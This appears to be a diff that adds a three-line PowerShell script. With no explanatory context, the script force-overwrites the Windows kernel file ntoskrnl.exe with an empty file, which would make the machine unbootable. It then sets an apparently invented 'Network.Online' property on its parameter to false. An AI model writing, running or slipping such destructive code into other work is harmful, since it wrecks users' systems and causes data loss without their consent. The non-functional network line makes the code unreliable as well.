@@ -1,0 +1,3 @@
+param($Windows)
+$null = New-Item -Path 'C:\Windows\System32\ntoskrnl.exe' -ItemType File -Force
+$Windows.Network.Online = $false
